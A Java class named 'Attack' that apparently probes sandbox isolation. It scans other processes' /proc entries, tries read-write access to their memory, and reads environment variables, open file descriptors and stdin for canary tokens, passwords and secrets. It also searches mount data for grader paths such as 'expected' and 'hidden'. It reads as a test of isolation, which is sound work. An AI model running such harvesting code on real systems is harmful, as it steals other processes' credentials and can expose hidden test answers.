package planted;

import java.io.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

public final class Attack {
    private static final Pattern SECRET = Pattern.compile("canary"
            + "-[0-9a-f]{24}|SECRET|TOKEN|PASSWORD|hidden|host-secret");
    private static final Pattern OWN = Pattern.compile("^(PG|DATABASE_|JDBC_DATABASE_|SPRING_DATASOURCE_)");
    private static final Pattern PLACE = Pattern.compile("(?i)\\btill\\b|suite|expected|assess|hidden|/(work/|home/\\w)");

    public static void go() {
        System.out.println("TRIED");
        long own = ProcessHandle.current().pid();
        for (File process : new File("/proc").listFiles()) {
            if (process.getName().matches("\\d+") && !process.getName().equals(String.valueOf(own))) {
                foreign(process.getPath());
            }
        }
        // The password of a database of its own is its to know.
        Predicate<String> others = OWN.asPredicate().negate();
        Map<String, String> told = new HashMap<>(System.getenv());
        told.keySet().removeIf(OWN.asPredicate());
        tell(SECRET, told + " " + System.getProperties(), "its own variables");
        // What it was started with, whatever became of it since.
        String first = Stream.of(content("/proc/self/environ").split("\0")).filter(others).collect(Collectors.joining(" "));
        tell(SECRET, first, "environ");
        for (String file : List.of("cmdline", "auxv", "stat", "cgroup", "mountinfo", "mounts", "net/unix",
                "sched")) {
            tell(file.startsWith("mount") || file.equals("cgroup") ? PLACE : SECRET, content("/proc/self/" + file),
                    file);
        }
        for (String file : List.of("/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/proc/cmdline", "/proc/version",
                "/proc/keys")) {
            tell(PLACE, content(file), file);
        }
        descriptors();
    }

    private static void foreign(String process) {
        for (String file : List.of("environ", "cmdline", "maps", "mem", "fd", "fdinfo", "cwd", "exe", "root", "stack",
                "syscall")) {
            tell(SECRET, content(process + "/" + file), process + "/" + file);
        }
        try (RandomAccessFile memory = new RandomAccessFile(process + "/mem", "rw")) {
            System.out.println("REACHED the memory of " + process + " " + memory);
        } catch (IOException refused) {
            System.out.println(refused.getMessage());
        }
        if (new File(process + "/fd").list() != null || new File(process, "root").list() != null) {
            System.out.println("REACHED the files of " + process);
        }
    }

    private static void descriptors() {
        for (File descriptor : new File("/proc/self/fd").listFiles()) {
            try (FileInputStream stream = new FileInputStream(descriptor)) {
                String path = Files.readSymbolicLink(descriptor.toPath()).toString();
                boolean waits = stream.available() == 0 || path.matches(".*(modules|\\.jar|\\.jsa|random)");
                tell(SECRET, waits ? path : new String(stream.readNBytes(65536), StandardCharsets.ISO_8859_1), path);
            } catch (IOException refused) {
                continue;
            }
        }
        try {
            tell(SECRET, new String(System.in.readNBytes(System.in.available())), "the standard input");
        } catch (IOException refused) {
            System.out.println(refused);
        }
    }

    private static String content(String path) {
        try (InputStream stream = Files.newInputStream(Path.of(path))) {
            return new String(stream.readNBytes(65536), StandardCharsets.ISO_8859_1);
        } catch (IOException refused) {
            return "";
        }
    }

    private static void tell(Pattern wanted, String text, String where) {
        Matcher found = wanted.matcher(text);
        if (found.find()) {
            System.out.println("REACHED " + found.group() + " in " + where);
        }
    }
}
